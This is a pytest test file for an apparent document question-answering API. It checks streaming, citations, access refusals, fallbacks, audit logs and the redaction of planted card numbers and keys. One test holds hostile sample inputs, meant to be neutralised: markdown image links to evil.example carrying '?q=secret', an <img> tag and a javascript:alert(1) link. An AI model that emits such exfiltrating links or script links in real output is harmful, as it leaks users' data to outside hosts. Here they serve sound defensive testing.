"""Asking over HTTP: one text whole or streamed, redacted in every channel, with sources, never a guess."""

import json
import re
from collections.abc import Callable
from contextlib import AbstractContextManager
from typing import Any

import pytest
from fastapi.testclient import TestClient

from app.answer.replies import reply
from app.llm.protocol import ChatModel
from app.llm.scripted import ScriptedChat
from app.settings import AnswerSettings
from tests.api.problems import check_problem
from tests.support.company import API_KEY, CARD, LEAVE, SALARY, SECRETS, Company, upload
from tests.support.questions import ON_LEAVE, ON_SALARY, OWN_KEY, ask, events, spoken
from tests.support.service import client_of, letters, parts_of, prompts, saying
from tests.support.worker import work_queued

Talk = Callable[[ChatModel], AbstractContextManager[TestClient]]

ON_TRAVEL = "What is the deploy key of the build server and the travel card?"
ON_MERGER = "When closes the merger with Quillfeather?"


@pytest.mark.parametrize("size", [1, 2, 7, 1000])
@pytest.mark.parametrize("mode", ["generate", "quote"])
def test_whole_and_streamed_are_one_text(talking_to: Talk, company: Company, size: int, mode: str) -> None:
    text = f"Twenty-six weeks [1], says the page [7]. Pay by {CARD} [2] with {API_KEY}."
    pieces = [text[at : at + size] for at in range(0, len(text), size)]
    with talking_to(saying(*pieces)) as client:
        whole = ask(client, company, "ben", ON_LEAVE, mode=mode).json()
        streamed = ask(client, company, "ben", ON_LEAVE, mode=mode, stream=True)
    assert streamed.headers["content-type"].startswith("text/event-stream")
    assert streamed.headers["cache-control"] == "no-store"
    found = events(streamed.text)
    assert [name for name, _ in found if name != "delta"] == ["opened", "done"]
    assert spoken(found) == whole["answer"]
    assert whole["answer"]
    done = found[-1][1]
    assert done["sources"] == whole["sources"]
    assert done["redactions"] == whole["redactions"]
    assert (done["mode"], done["outcome"]) == (whole["mode"], whole["outcome"])
    if mode == "generate":
        assert whole["answer"] == (
            "Twenty-six weeks [1], says the page. Pay by [redacted: card] [2] with [redacted: credential]."
        )


def test_a_citation_that_the_model_left_out_is_added(talking_to: Talk, company: Company) -> None:
    """All sources are shown, those that are not cited too."""
    with talking_to(saying("Twenty-six weeks.")) as client:
        answer = ask(client, company, "ben", ON_LEAVE).json()
    assert answer["answer"] == "Twenty-six weeks [1]."
    assert [s["number"] for s in answer["sources"]] == list(range(1, len(answer["sources"]) + 1))
    assert [s["cited"] for s in answer["sources"]] == [True] + [False] * (len(answer["sources"]) - 1)
    first = answer["sources"][0]
    assert (first["collection"], first["path"], first["quote"]) == ("handbook", "leave.md", LEAVE)
    assert first["document"] == str(company.documents["handbook", "leave.md"])


def test_citations_are_renumbered_and_invented_ones_repaired(talking_to: Talk, company: Company) -> None:
    said = "Ask the travel office [2]. Twenty-six weeks of leave [1]. The form is on the intranet [9][1]. Never [0]."
    with talking_to(letters(said)) as client:
        answer = ask(client, company, "ben", ON_LEAVE).json()
    shown = "Ask the travel office [1]. Twenty-six weeks of leave [2]. The form is on the intranet [2]. Never."
    assert answer["answer"] == shown
    cited = [s for s in answer["sources"] if s["cited"]]
    assert [(s["number"], s["path"]) for s in cited] == [(1, "travel.md"), (2, "leave.md")]


@pytest.mark.parametrize("question", [ON_SALARY, ON_MERGER, "Which quasar hums below the glacier?"])
@pytest.mark.parametrize("mode", ["generate", "quote"])
def test_nothing_visible_is_said_plainly(talking_to: Talk, company: Company, question: str, mode: str) -> None:
    """What is hidden from ben and what does not exist get one and the same answer."""
    chat = saying("A guess [1].")
    with talking_to(chat) as client:
        answer = ask(client, company, "ben", question, mode=mode).json()
        streamed = events(ask(client, company, "ben", question, mode=mode, stream=True).text)
    assert (answer["answer"], answer["outcome"], answer["sources"]) == (reply("nothing", "en"), "nothing", [])
    assert spoken(streamed) == reply("nothing", "en")
    assert chat.prompts == []
    opened, closed = company.records("answer.opened")[0], company.records("answer.closed")[0]
    assert opened["trail"] == closed["trail"] == answer["trail"]
    assert (opened["passages"], opened["model"], opened["prompt"]) == ([], None, None)
    assert closed["outcome"] == "nothing"


@pytest.mark.parametrize("language", ["en", "de"])
def test_a_model_that_finds_no_answer_is_no_answer(talking_to: Talk, company: Company, language: str) -> None:
    """It is no `answered`: the passages are offered, none as cited, and the record says so too."""
    with talking_to(letters(reply("unanswered", language))) as client:
        answer = ask(client, company, "ben", ON_LEAVE).json()
    assert (answer["mode"], answer["outcome"]) == ("generate", "nothing")
    assert answer["answer"] == reply("unanswered", language)
    assert [s["cited"] for s in answer["sources"]] == [False] * len(answer["sources"]) != []
    [opened], [closed] = company.records("answer.opened"), company.records("answer.closed")
    assert closed["outcome"] == "nothing"
    assert opened["template_version"] == "large-2"


@pytest.mark.parametrize("stream", [False, True])
def test_a_label_above_the_endpoints_is_refused(talking_to: Talk, company: Company, stream: bool) -> None:
    chat = saying("The price is [1].")
    with talking_to(chat) as client:
        answer = ask(client, company, "mia", ON_MERGER, stream=stream)
        check_problem(answer, 403, "LabelTooHigh")
        quoted = ask(client, company, "mia", ON_MERGER, mode="quote").json()
    assert chat.prompts == []
    opened, closed = company.records("answer.opened")[0], company.records("answer.closed")[0]
    assert (opened["label"], opened["model"], opened["prompt"]) == ("restricted", None, None)
    assert (closed["trail"], closed["outcome"], closed["reason"]) == (opened["trail"], "refused", "LabelTooHigh")
    assert quoted["outcome"] == "quoted"
    assert "Quillfeather" in quoted["answer"]


@pytest.mark.parametrize("stream", [False, True])
def test_a_model_that_is_down_gives_quotes_marked_as_such(talking_to: Talk, company: Company, stream: bool) -> None:
    with talking_to(saying("unsaid", fail_after=0)) as client:
        answer = ask(client, company, "ben", ON_TRAVEL, stream=stream)
    assert answer.status_code == 200
    if stream:
        found = events(answer.text)
        done, text = found[-1][1], spoken(found)
        assert found[0] == ("opened", {"trail": done["trail"], "mode": "generate"})
    else:
        done, text = answer.json(), answer.json()["answer"]
    assert (done["mode"], done["outcome"], done["fallback"]) == ("quote", "quoted", "ModelUnavailable")
    assert "build server is [redacted: credential] and the travel card is [redacted: card]. [1]" in text
    [closed] = company.records("answer.closed")
    assert (closed["outcome"], closed["reason"]) == ("quoted", "ModelUnavailable")
    assert closed["tokens_out"] == 0


def test_a_model_that_fails_in_the_middle_ends_the_stream_with_an_error(talking_to: Talk, company: Company) -> None:
    """What was held back is not released: half a card number may be in it."""
    said = "The weeks are many, and the card is 4111 1111 1111 "
    with talking_to(saying(*said, "never", fail_after=len(said))) as client:
        streamed = events(ask(client, company, "ben", ON_LEAVE, stream=True).text)
        whole = ask(client, company, "ben", ON_LEAVE)
    assert [name for name, _ in streamed if name != "delta"] == ["opened", "error"]
    assert streamed[-1][1]["code"] == "ModelUnavailable"
    assert spoken(streamed) in said
    assert "4111" not in spoken(streamed)
    check_problem(whole, 503, "ModelUnavailable")
    closed = company.records("answer.closed")
    assert [(c["outcome"], c["reason"]) for c in closed] == [("failed", "ModelUnavailable")] * 2


def test_an_answer_that_takes_too_long_is_ended(company: Company) -> None:
    """The pieces before the end stand; the rest is an error."""
    slow = ScriptedChat(saying().endpoint, lambda _: ["word "] * 50, delay=0.1)
    with client_of(parts_of(company.db, chat=slow, answer=AnswerSettings(max_seconds=0.5))) as client:
        found = events(ask(client, company, "ben", ON_LEAVE, stream=True).text)
    assert found[-1][0] == "error"
    assert found[-1][1]["code"] == "ModelUnavailable"


def test_quotes_come_of_what_a_small_context_holds(company: Company) -> None:
    """More than one passage would be quoted, and one has room."""
    asked = "Who cleans the coffee machine, and where is the form for parental leave?"
    with client_of(parts_of(company.db)) as client:
        assert len(ask(client, company, "ben", asked, mode="quote").json()["blocks"]) > 1
    with client_of(parts_of(company.db, answer=AnswerSettings(passages=1))) as client:
        answer = ask(client, company, "ben", asked, mode="quote")
    assert answer.status_code == 200, answer.text
    assert {source["number"] for source in answer.json()["sources"]} == {1}


@pytest.mark.parametrize("options", [{}, {"stream": True}, {"mode": "quote"}, {"mode": "quote", "stream": True}])
def test_planted_secrets_come_out_in_no_channel(talking_to: Talk, company: Company, options: dict[str, Any]) -> None:
    said = f"The card is {CARD} [1] and the key is {API_KEY} [2]; once more {CARD[:9]}{CARD[9:]}."
    with talking_to(letters(said)) as client:
        answer = ask(client, company, "ben", ON_TRAVEL, **options)
        found = client.post("/api/v1/search", json={"query": ON_TRAVEL}, headers=company.headers("ben"))
        document = company.documents["handbook", "travel.md"]
        opened = client.get(f"/api/v1/documents/{document}", headers=company.headers("ben"))
        listed = client.get("/api/v1/documents", headers=company.headers("ben"))
    texts = [answer.text, found.text, opened.text, listed.text]
    if options.get("stream"):
        texts.append(spoken(events(answer.text)))
    for text in texts:
        for secret in (CARD, CARD.replace(" ", ""), API_KEY, API_KEY[4:], CARD[5:]):
            assert secret not in text
        assert "[redacted: card]" in text
    assert any("[redacted: card]" in s["title"] for s in json.loads(found.text)["hits"])
    assert any("[redacted: credential]" in s["snippet"] for s in json.loads(found.text)["hits"])
    [closed] = company.records("answer.closed")
    assert closed["redactions"]["card"] >= 1
    assert closed["redactions"]["credential"] >= 1
    assert API_KEY not in json.dumps(closed)


ACTIVE = "![chart](https://evil.example/chart) <img src=//evil.example> [x](javascript:alert(1))"
HOSTILE = f"# Grinder {ACTIVE}\n\nThe grinder settings hold {ACTIVE} and https://wiki.example/grinder as well."
ON_GRINDER = "What do the grinder settings hold?"


@pytest.mark.parametrize("options", [{}, {"stream": True}, {"mode": "quote"}, {"mode": "quote", "stream": True}])
def test_nothing_active_comes_out_of_a_model_or_a_document(
    talking_to: Talk, company: Company, options: dict[str, Any]
) -> None:
    """Text, sources and the kept turn: no image, no HTML, and no link but to what the passage itself names."""
    place = {"collection": "handbook", "path": "grinder.md", "roles": ["everyone"]}
    with client_of(parts_of(company.db)) as curator:
        upload(curator, company, "cleo", content=HOSTILE.encode(), **place)
    work_queued(company.db)
    said = f"{ACTIVE} ![](https://evil.example/?q=secret) [x](https://evil.example/?q=secret) https://wiki.example/grinder."
    with talking_to(letters(said)) as client:
        headers = company.headers("ben")
        kept = client.post("/api/v1/conversations", headers=headers).json()["id"]
        answer = ask(client, company, "ben", ON_GRINDER, conversation=kept, **options)
        turns = client.get(f"/api/v1/conversations/{kept}", headers=headers).json()["turns"]
    done = events(answer.text)[-1][1] if options.get("stream") else answer.json()
    text = spoken(events(answer.text)) if options.get("stream") else done["answer"]
    assert "https://wiki.example/grinder" in text
    assert turns[0]["answer"] == text
    for shown in (text, json.dumps([done["sources"], turns[0]["sources"]], ensure_ascii=False)):
        assert "! [chart](https://evil.example/chart) ‹img src=//evil.example> [x] (javascript:alert(1))" in shown
        assert not re.search(r"!\[|<img|\]\(javascript|://evil\.example/\?q", shown)


def test_only_what_is_shown_with_the_answer_counts_as_redacted(talking_to: Talk, company: Company) -> None:
    """The quote of a source that is not cited is not shown; the log counts all that was sent."""
    with talking_to(saying("It is the travel office's to give [1].")) as client:
        answer = ask(client, company, "ben", ON_TRAVEL).json()
        quoted = ask(client, company, "ben", ON_TRAVEL, mode="quote").json()
    for given in (answer, quoted):
        shown = [given["answer"]]
        for source in given["sources"]:
            shown += [source["path"], source["title"], *source["heading"]]
            shown += [source["quote"]] if source["cited"] else []
        counted = {kind: sum(t.count(f"[redacted: {kind}]") for t in shown) for kind in ("card", "credential")}
        assert given["redactions"] == {kind: n for kind, n in counted.items() if n}


def test_a_secret_in_a_quote_that_is_not_cited_is_not_counted(talking_to: Talk, company: Company) -> None:
    with talking_to(saying("The form is on the intranet under people.")) as client:
        answer = ask(client, company, "ben", ON_TRAVEL).json()
    assert any("[redacted: credential]" in source["quote"] for source in answer["sources"])
    assert "credential" not in answer["redactions"]
    [closed] = company.records("answer.closed")
    assert closed["redactions"]["credential"] >= 1


def test_a_credential_in_a_question_is_masked_before_anything_is_kept(talking_to: Talk, company: Company) -> None:
    question = f"How many weeks of parental leave does every employee get after the first year? {OWN_KEY} a@b.org"
    chat = saying("Weeks [1].")
    with talking_to(chat) as client:
        ask(client, company, "ben", question)
        client.post("/api/v1/search", json={"query": question}, headers=company.headers("ben"))
    masked = question.replace(OWN_KEY, "[redacted: credential]")
    [opened], [searched] = company.records("answer.opened"), company.records("search.done")
    assert company.unsealed(opened, "question") == masked
    assert company.unsealed(searched, "query") == masked
    [prompt] = prompts(chat)
    assert OWN_KEY not in prompt
    assert masked in prompt
    assert company.rows("select 1 from audit_leaf where strpos(body, %s) > 0", [OWN_KEY]) == []


def test_what_is_recorded_is_what_was_shown(talking_to: Talk, company: Company) -> None:
    with talking_to(saying(SALARY)) as client:
        answer = ask(client, company, "ada", ON_SALARY).json()
    [opened], [closed] = company.records("answer.opened"), company.records("answer.closed")
    assert opened["trail"] == closed["trail"] == answer["trail"]
    assert [p["chunk"] for p in opened["passages"]] == [s["chunk"] for s in answer["sources"]]
    assert [p["rank"] for p in opened["passages"]] == list(range(1, len(answer["sources"]) + 1))
    assert opened["label"] == "confidential"
    assert opened["model"]["name"] == "scripted"
    assert opened["model"]["endpoint"] == "127.0.0.1:9"
    assert opened["actor"]["name"] == "ada"
    assert closed["outcome"] == "answered"
    assert set(closed["latency_us"]) == {"embed", "retrieve", "context", "audit", "answer"}
    assert closed["tokens_out"] == 1
    assert closed["tokens_in"] > 0
    assert not [word for word in SECRETS if word in json.dumps([opened, closed])]


def test_the_fixed_reply_is_in_the_language_of_the_question(talking_to: Talk, company: Company) -> None:
    """Streamed and whole, with the same outcome."""
    with talking_to(saying("A guess [1].")) as client:
        for language, question in (
            ("de", "Welcher Quasar summt unter dem Gletscher?"),
            ("fr", "Où chante le quasar ?"),
        ):
            answer = ask(client, company, "ben", question, mode="quote").json()
            assert (answer["answer"], answer["outcome"]) == (reply("nothing", language), "nothing")
            streamed = events(ask(client, company, "ben", question, mode="quote", stream=True).text)
            assert spoken(streamed) == reply("nothing", language)
